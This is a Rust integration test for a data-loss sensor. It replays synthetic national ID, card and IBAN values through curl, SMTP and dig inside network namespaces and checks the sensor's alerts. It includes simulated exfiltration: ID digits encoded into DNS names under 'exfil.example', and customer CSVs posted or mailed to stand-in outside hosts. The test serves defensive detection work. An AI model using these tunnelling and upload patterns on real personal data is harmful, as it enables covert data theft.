//! Traffic from real programs, captured live: inside two network namespaces the test creates,
//! Debian's `curl` posts forms, JSON, a multipart upload, a gzip body and a chunked body to a
//! Python `http.server`, and fetches a CSV export from an inside server; Python's `smtplib` sends
//! a MIME mail (RFC 2047 Urdu subject, quoted-printable text, base64 CSV attachment) to
//! `aiosmtpd`; `dig` asks `dnsmasq` names with CNICs in them over UDP and TCP. `nigehban
//! capture` watches the inside end. Every value sent must be reported exactly once, with the
//! right protocol, location and evidence, and nothing else may be.
//!
//! Needs root and the packages in deploy/setup-deps.sh (missing ones fail the test); set
//! NIGEHBAN_SKIP_LIVE=1 to skip on a workstation.

mod common;

use common::netns::*;
use common::*;
use nigehban::synth::http::{compress, json_escape_digits, Coding};
use nigehban::synth::values::{self, Kind};
use rand::rngs::StdRng;
use rand::SeedableRng;
use serde_json::Value;
use std::collections::HashMap;
use std::io::{BufRead, BufReader, Write};
use std::path::Path;
use std::process::{Child, Command, Stdio};
use std::time::{Duration, Instant};

/// Debian's interpreter: the one python3-aiosmtpd is installed for.
const PY: &str = "/usr/bin/python3";

const HTTP_SERVER: &str = r#"
import http.server, sys
EXPORT = open(sys.argv[3], "rb").read() if len(sys.argv) > 3 else None
class H(http.server.BaseHTTPRequestHandler):
    protocol_version = "HTTP/1.1"
    def body(self):
        if self.headers.get("Transfer-Encoding", "").lower() == "chunked":
            data = b""
            while True:
                n = int(self.rfile.readline().split(b";")[0], 16)
                if n == 0:
                    while self.rfile.readline() not in (b"\r\n", b"\n", b""):
                        pass
                    return data
                data += self.rfile.read(n)
                self.rfile.readline()
        return self.rfile.read(int(self.headers.get("Content-Length") or 0))
    def reply(self, body, ctype):
        self.send_response(200)
        self.send_header("Content-Type", ctype)
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)
    def do_POST(self):
        self.reply(b"received %d bytes\n" % len(self.body()), "text/plain")
    def do_GET(self):
        if EXPORT is not None and self.path == "/export.csv":
            self.reply(EXPORT, "text/csv")
        else:
            self.reply(b'{"status":"ok"}', "application/json")
    def log_message(self, *args):
        pass
srv = http.server.ThreadingHTTPServer((sys.argv[1], int(sys.argv[2])), H)
print("ready", flush=True)
srv.serve_forever()
"#;

const SMTP_CLIENT: &str = r#"
import json, smtplib, sys
from email.message import EmailMessage
cfg = json.load(sys.stdin)
m = EmailMessage()
m["From"] = "Ops <ops@bank.example.pk>"
m["To"] = "archive@mail.example.com"
m["Subject"] = cfg["subject"]
m.set_content(cfg["text"], cte="quoted-printable")
m.add_attachment(cfg["csv"].encode(), maintype="text", subtype="csv", filename="customers.csv")
with smtplib.SMTP("10.99.0.2", 25, local_hostname="ws-fin-07.bank.example.pk") as s:
    s.send_message(m, from_addr="ops@bank.example.pk",
                   to_addrs=["archive@mail.example.com", "cc@partner.example.org"])
"#;

const PORT_OPEN: &str = r#"
import socket, sys, time
end = time.time() + 20
while time.time() < end:
    try:
        socket.create_connection((sys.argv[1], int(sys.argv[2])), timeout=1).close()
        sys.exit(0)
    except OSError:
        time.sleep(0.1)
sys.exit(1)
"#;

/// Kills and reaps the servers the test started, even when an assertion fails.
struct Servers(Vec<Child>);

impl Drop for Servers {
    fn drop(&mut self) {
        for c in &mut self.0 {
            let _ = c.kill();
            let _ = c.wait();
        }
    }
}

/// What a report of one value must say.
struct Expect {
    kind: Kind,
    protocol: &'static str,
    locations: &'static [&'static str],
    /// HTTP request evidence: method, `url.domain`, `url.path`.
    request: Option<(&'static str, &'static str, &'static str)>,
    /// Sent in an HTTP response by the inside server.
    response: bool,
}

#[derive(Default)]
struct Plan {
    values: Vec<String>,
    expect: HashMap<String, Expect>,
}

impl Plan {
    fn add(&mut self, value: &str, e: Expect) {
        self.values.push(value.to_string());
        assert!(self.expect.insert(hash_of(value), e).is_none(), "values are distinct");
    }
}

fn req(method: &'static str, domain: &'static str, path: &'static str, loc: &'static [&'static str]) -> Expect {
    Expect {
        kind: Kind::Cnic,
        protocol: "http",
        locations: loc,
        request: Some((method, domain, path)),
        response: false,
    }
}

fn with_kind(mut e: Expect, kind: Kind) -> Expect {
    e.kind = kind;
    e
}

fn run_ok(mut c: Command, what: &str) {
    let out = c
        .output()
        .unwrap_or_else(|e| panic!("{what}: cannot run ({e}); run deploy/setup-deps.sh"));
    assert!(
        out.status.success(),
        "{what} failed: {}{}",
        String::from_utf8_lossy(&out.stdout),
        String::from_utf8_lossy(&out.stderr)
    );
}

fn need(program: &str) {
    let ok = Command::new("sh")
        .args(["-c", &format!("command -v {program}")])
        .stdout(Stdio::null())
        .status()
        .is_ok_and(|s| s.success());
    assert!(
        ok,
        "{program} is missing: run deploy/setup-deps.sh (this test needs it)"
    );
}

fn spawn_ready(mut c: Command, what: &str) -> Child {
    let mut child = c
        .stdout(Stdio::piped())
        .stderr(Stdio::null())
        .spawn()
        .unwrap_or_else(|e| panic!("{what}: {e}"));
    let mut line = String::new();
    BufReader::new(child.stdout.as_mut().unwrap())
        .read_line(&mut line)
        .unwrap();
    assert_eq!(line.trim(), "ready", "{what} did not start");
    child
}

fn csv(rng: &mut StdRng, plan: &mut Plan, rows: usize, e: impl Fn(Kind) -> Expect) -> String {
    let mut out = String::from("id,name,cnic,card,city\n");
    for i in 0..rows {
        let c = values::cnic(rng);
        let card = values::card(rng);
        plan.add(&c, e(Kind::Cnic));
        plan.add(&card, e(Kind::Card));
        out.push_str(&format!(
            "{},Customer {i},{},{},Lahore\n",
            100 + i,
            values::dashed_cnic(&c),
            values::grouped_card(&card, ' ')
        ));
    }
    out
}

fn curl(ns: &Netns, inside: bool, args: &[&str], what: &str) {
    let mut c = ns.exec(
        if inside { &ns.a } else { &ns.b },
        "curl",
        &["-sS", "--fail", "-o", "/dev/null"],
    );
    c.args(args);
    run_ok(c, what);
}

/// Drives every client and returns what was sent.
fn traffic(ns: &Netns, dir: &Path) -> Plan {
    let mut rng = StdRng::seed_from_u64(3);
    let mut plan = Plan::default();
    let r = |host: &str| format!("{host}:8080:{B_IP}");

    // 1. A form and a JSON body over one keep-alive connection (`--next`).
    let (c1, card1, c2, card2) = (
        values::cnic(&mut rng),
        values::card(&mut rng),
        values::cnic(&mut rng),
        values::card(&mut rng),
    );
    plan.add(&c1, req("POST", "forms.example", "/apply", &["body"]));
    plan.add(
        &card1,
        with_kind(req("POST", "forms.example", "/apply", &["body"]), Kind::Card),
    );
    plan.add(&c2, req("POST", "forms.example", "/api/customers", &["body"]));
    plan.add(
        &card2,
        with_kind(req("POST", "forms.example", "/api/customers", &["body"]), Kind::Card),
    );
    let json = format!(
        "{{\"customer\":{{\"name\":\"Fatima Noor\",\"national_id\":\"{}\"}},\"payment\":{{\"card_number\":\"{}\"}}}}",
        json_escape_digits(&c2),
        json_escape_digits(&card2)
    );
    let json_path = dir.join("customer.json");
    std::fs::write(&json_path, json).unwrap();
    curl(
        ns,
        true,
        &[
            "--resolve",
            &r("forms.example"),
            "--data-urlencode",
            "name=Ali Khan",
            "--data-urlencode",
            &format!("cnic={}", values::dashed_cnic(&c1)),
            "--data-urlencode",
            &format!("card={}", values::grouped_card(&card1, ' ')),
            "http://forms.example:8080/apply",
            "--next",
            "-sS",
            "--fail",
            "-o",
            "/dev/null",
            "--resolve",
            &r("forms.example"),
            "-H",
            "Content-Type: application/json",
            "--data-binary",
            &format!("@{}", json_path.display()),
            "http://forms.example:8080/api/customers",
        ],
        "curl form + JSON",
    );

    // 2. A multipart upload: a field and a CSV file.
    let c3 = values::cnic(&mut rng);
    plan.add(&c3, req("POST", "files.example", "/upload", &["body"]));
    let rows = csv(&mut rng, &mut plan, 40, |k| {
        with_kind(req("POST", "files.example", "/upload", &["attachment"]), k)
    });
    let csv_path = dir.join("customers.csv");
    std::fs::write(&csv_path, rows).unwrap();
    curl(
        ns,
        true,
        &[
            "--resolve",
            &r("files.example"),
            "-F",
            &format!("applicant_cnic={}", values::dashed_cnic(&c3)),
            "-F",
            &format!("file=@{};type=text/csv", csv_path.display()),
            "http://files.example:8080/upload",
        ],
        "curl multipart",
    );

    // 3. A gzip-compressed JSON body.
    let mut items = Vec::new();
    for _ in 0..3 {
        let c = values::cnic(&mut rng);
        plan.add(&c, req("POST", "sync.example", "/import", &["body"]));
        items.push(format!("{{\"cnic\":\"{}\"}}", values::dashed_cnic(&c)));
    }
    let gz = dir.join("body.json.gz");
    std::fs::write(&gz, compress(Coding::Gzip, format!("[{}]", items.join(",")).as_bytes())).unwrap();
    curl(
        ns,
        true,
        &[
            "--resolve",
            &r("sync.example"),
            "-H",
            "Content-Encoding: gzip",
            "-H",
            "Content-Type: application/json",
            "--data-binary",
            &format!("@{}", gz.display()),
            "http://sync.example:8080/import",
        ],
        "curl gzip",
    );

    // 4. A chunked CSV body.
    let rows = csv(&mut rng, &mut plan, 5, |k| {
        with_kind(req("POST", "ingest.example", "/stream", &["body"]), k)
    });
    let chunked = dir.join("rows.csv");
    std::fs::write(&chunked, rows).unwrap();
    curl(
        ns,
        true,
        &[
            "--resolve",
            &r("ingest.example"),
            "-H",
            "Transfer-Encoding: chunked",
            "-H",
            "Content-Type: text/csv",
            "--data-binary",
            &format!("@{}", chunked.display()),
            "http://ingest.example:8080/stream",
        ],
        "curl chunked",
    );

    // 5. Values in a query string.
    let (c4, card4) = (values::cnic(&mut rng), values::card(&mut rng));
    plan.add(&c4, req("GET", "api.example", "/lookup", &["url"]));
    plan.add(
        &card4,
        with_kind(req("GET", "api.example", "/lookup", &["url"]), Kind::Card),
    );
    curl(
        ns,
        true,
        &[
            "--resolve",
            &r("api.example"),
            &format!("http://api.example:8080/lookup?nic={c4}&card={card4}"),
        ],
        "curl query",
    );

    // 6. An outside client downloads a CSV from the inside server: the response is the leak.
    curl(
        ns,
        false,
        &[
            "--resolve",
            &format!("reports.corp.example:8081:{A_IP}"),
            "http://reports.corp.example:8081/export.csv",
        ],
        "curl export from the inside server",
    );

    // 7. Mail: Urdu RFC 2047 subject, quoted-printable text, base64 CSV attachment.
    let smtp = |loc: &'static [&'static str]| Expect {
        kind: Kind::Cnic,
        protocol: "smtp",
        locations: loc,
        request: None,
        response: false,
    };
    let (c5, c6, iban) = (values::cnic(&mut rng), values::cnic(&mut rng), values::iban(&mut rng));
    plan.add(&c5, smtp(&["header"]));
    plan.add(&c6, smtp(&["body"]));
    plan.add(&iban, with_kind(smtp(&["body"]), Kind::Iban));
    let attached = csv(&mut rng, &mut plan, 10, |k| with_kind(smtp(&["attachment"]), k));
    let text = format!(
        "Assalam o Alaikum,\nthe customer whose national identity card number is {} asked that the salary go to IBAN {} from next month; please update the payroll records before the cut-off date.\n",
        values::dashed_cnic(&c6),
        values::grouped_iban(&iban)
    );
    let cfg = serde_json::json!({
        "subject": format!("شناختی کارڈ نمبر {}", values::dashed_cnic(&c5)),
        "text": text,
        "csv": attached,
    });
    let mut client = ns
        .exec(&ns.a, PY, &["-c", SMTP_CLIENT])
        .stdin(Stdio::piped())
        .stdout(Stdio::null())
        .stderr(Stdio::piped())
        .spawn()
        .unwrap();
    client
        .stdin
        .take()
        .unwrap()
        .write_all(cfg.to_string().as_bytes())
        .unwrap();
    let out = client.wait_with_output().unwrap();
    assert!(
        out.status.success(),
        "smtplib client failed: {}",
        String::from_utf8_lossy(&out.stderr)
    );

    // 8. DNS: a CNIC label, digits split over labels, a dashed CNIC; UDP and TCP.
    let dns = |loc: &'static [&'static str]| Expect {
        kind: Kind::Cnic,
        protocol: "dns",
        locations: loc,
        request: None,
        response: false,
    };
    let (d1, d2, d3) = (values::cnic(&mut rng), values::cnic(&mut rng), values::cnic(&mut rng));
    plan.add(&d1, dns(&["dns_cnic_label"]));
    plan.add(&d2, dns(&["dns_cnic_label"]));
    plan.add(&d3, dns(&["dns_query"]));
    let names = [
        (format!("{d1}.id.exfil.example"), false),
        (
            format!("{}.{}.{}.t.exfil.example", &d2[..5], &d2[5..12], &d2[12..]),
            false,
        ),
        (format!("{}.q.exfil.example", values::dashed_cnic(&d3)), true),
    ];
    for (name, tcp) in &names {
        let server = format!("@{B_IP}");
        let mut args = vec![server.as_str(), "+tries=1", "+time=3", name.as_str(), "A"];
        if *tcp {
            args.push("+tcp");
        }
        run_ok(ns.exec(&ns.a, "dig", &args), "dig");
    }
    plan
}

fn check(plan: &Plan, alerts: &[Value]) -> Vec<String> {
    let mut problems = Vec::new();
    let mut seen: HashMap<String, usize> = HashMap::new();
    let req_ip = A_IP;
    for a in alerts {
        let protocol = a["network"]["protocol"].as_str().unwrap_or("(none)");
        for m in a["pii"]["matches"].as_array().into_iter().flatten() {
            let h = m["hash"].as_str().unwrap_or_default().to_string();
            *seen.entry(h.clone()).or_default() += 1;
            let Some(e) = plan.expect.get(&h) else {
                problems.push(format!("unexpected {} reported over {protocol}", m["type"]));
                continue;
            };
            let what = format!("{} over {}", e.kind.as_str(), e.protocol);
            let location = m["location"].as_str().unwrap_or("(none)");
            if m["type"] != e.kind.as_str() {
                problems.push(format!("{what}: type {}", m["type"]));
            }
            if protocol != e.protocol {
                problems.push(format!("{what}: network.protocol {protocol}"));
            }
            if !e.locations.contains(&location) {
                problems.push(format!("{what}: location {location}, expected {:?}", e.locations));
            }
            if a["source"]["ip"] != req_ip {
                problems.push(format!("{what}: source.ip {}", a["source"]["ip"]));
            }
            if let Some((method, domain, path)) = e.request {
                let got = (
                    a["http"]["request"]["method"].as_str().unwrap_or("(none)"),
                    a["url"]["domain"].as_str().unwrap_or("(none)"),
                    a["url"]["path"].as_str().unwrap_or("(none)"),
                );
                if got != (method, domain, path) {
                    problems.push(format!(
                        "{what}: http evidence {got:?}, expected {:?}",
                        (method, domain, path)
                    ));
                }
            }
            if e.response && a["http"]["response"]["status_code"] != 200 {
                problems.push(format!(
                    "{what}: http.response.status_code {}",
                    a["http"]["response"]["status_code"]
                ));
            }
            if e.protocol == "smtp" {
                if a["smtp"]["mail_from_domain"] != "bank.example.pk" {
                    problems.push(format!(
                        "{what}: smtp.mail_from_domain {}",
                        a["smtp"]["mail_from_domain"]
                    ));
                }
                let rcpt = a["smtp"]["rcpt_to_domains"].as_array().cloned().unwrap_or_default();
                if !rcpt.contains(&Value::from("mail.example.com"))
                    || !rcpt.contains(&Value::from("partner.example.org"))
                {
                    problems.push(format!("{what}: smtp.rcpt_to_domains {rcpt:?}"));
                }
            }
            if e.protocol == "dns" && a["dns"]["question"]["registered_domain"] != "exfil.example" {
                problems.push(format!(
                    "{what}: dns.question.registered_domain {}",
                    a["dns"]["question"]["registered_domain"]
                ));
            }
        }
    }
    let mut missing: HashMap<String, usize> = HashMap::new();
    for (h, e) in &plan.expect {
        match seen.get(h) {
            None => {
                *missing
                    .entry(format!("{} over {} in {:?}", e.kind.as_str(), e.protocol, e.locations))
                    .or_default() += 1
            }
            Some(n) if *n > 1 => problems.push(format!("{} over {} reported {n} times", e.kind.as_str(), e.protocol)),
            Some(_) => {}
        }
    }
    for (what, n) in missing {
        problems.push(format!("{n} × {what} not reported"));
    }
    problems.sort();
    problems.dedup();
    problems
}

#[test]
fn real_clients_and_servers_in_network_namespaces() {
    if skip_live() {
        return;
    }
    for p in ["curl", "dig", "dnsmasq", PY] {
        need(p);
    }
    let probe = Command::new(PY).args(["-c", "import aiosmtpd"]).output().unwrap();
    assert!(
        probe.status.success(),
        "python3-aiosmtpd is missing: run deploy/setup-deps.sh (this test needs it)"
    );

    let ns = Netns::new("r");
    let dir = tempfile::tempdir().unwrap();
    let key = write_key(dir.path());
    let port = 19751;
    let sensor = ns.start_sensor(&format!("{A_IP}/32"), port, &key, &[]);

    // The export the inside server will hand out; its values join the plan after traffic().
    let mut rng = StdRng::seed_from_u64(99);
    let mut export_plan = Plan::default();
    let export = csv(&mut rng, &mut export_plan, 12, |k| Expect {
        kind: k,
        protocol: "http",
        locations: &["body"],
        // Learned from the outside client's request (the other direction, not reassembled).
        request: Some(("GET", "reports.corp.example", "/export.csv")),
        response: true,
    });
    let export_path = dir.path().join("export.csv");
    std::fs::write(&export_path, export).unwrap();

    let mut servers = Servers(Vec::new());
    servers.0.push(spawn_ready(
        ns.exec(&ns.b, PY, &["-c", HTTP_SERVER, B_IP, "8080"]),
        "http.server (outside)",
    ));
    servers.0.push(spawn_ready(
        ns.exec(
            &ns.a,
            PY,
            &["-c", HTTP_SERVER, A_IP, "8081", export_path.to_str().unwrap()],
        ),
        "http.server (inside)",
    ));
    servers.0.push(
        ns.exec(
            &ns.b,
            PY,
            &[
                "-m",
                "aiosmtpd",
                "-n",
                "-l",
                &format!("{B_IP}:25"),
                "-c",
                "aiosmtpd.handlers.Sink",
            ],
        )
        .stdout(Stdio::null())
        .stderr(Stdio::null())
        .spawn()
        .unwrap(),
    );
    let pid = dir.path().join("dnsmasq.pid");
    servers.0.push(
        ns.exec(
            &ns.b,
            "dnsmasq",
            &[
                "--keep-in-foreground",
                "--conf-file=/dev/null",
                "--no-resolv",
                "--no-hosts",
                "--bind-interfaces",
                &format!("--listen-address={B_IP}"),
                "--address=/exfil.example/10.99.0.9",
                "--user=root",
                &format!("--pid-file={}", pid.display()),
            ],
        )
        .stdout(Stdio::null())
        .stderr(Stdio::null())
        .spawn()
        .unwrap(),
    );
    run_ok(
        ns.exec(&ns.a, PY, &["-c", PORT_OPEN, B_IP, "25"]),
        "waiting for aiosmtpd",
    );
    run_ok(
        ns.exec(&ns.a, PY, &["-c", PORT_OPEN, B_IP, "53"]),
        "waiting for dnsmasq",
    );

    let mut plan = traffic(&ns, dir.path());
    for v in std::mem::take(&mut export_plan.values) {
        let e = export_plan.expect.remove(&hash_of(&v)).unwrap();
        plan.add(&v, e);
    }

    // Wait until the alert count stops rising (flows settle after about a second), then stop.
    let deadline = Instant::now() + Duration::from_secs(20);
    let mut last = -1.0;
    loop {
        std::thread::sleep(Duration::from_millis(1500));
        let now = metric(&wait_for_metrics(&ns, port), "nigehban_alerts_total");
        if (now > 0.0 && now == last) || Instant::now() > deadline {
            break;
        }
        last = now;
    }
    let (out, err) = stop(sensor);
    drop(servers);
    let run = stopped_run(out, err);
    for v in &plan.values {
        assert!(
            !run.stdout.contains(v.as_str()) && !run.stderr.contains(v.as_str()),
            "a clear value appeared in the sensor's output"
        );
    }
    let problems = check(&plan, &run.alerts);
    let reported: usize = run
        .alerts
        .iter()
        .map(|a| a["pii"]["matches"].as_array().map_or(0, Vec::len))
        .sum();
    let _ = writeln!(
        std::io::stderr(),
        "real programs: {} values sent, {reported} reported, {} problems",
        plan.values.len(),
        problems.len()
    );
    assert!(
        problems.is_empty(),
        "{} values sent, {} alerts:\n{}",
        plan.values.len(),
        run.alerts.len(),
        problems.join("\n")
    );
}
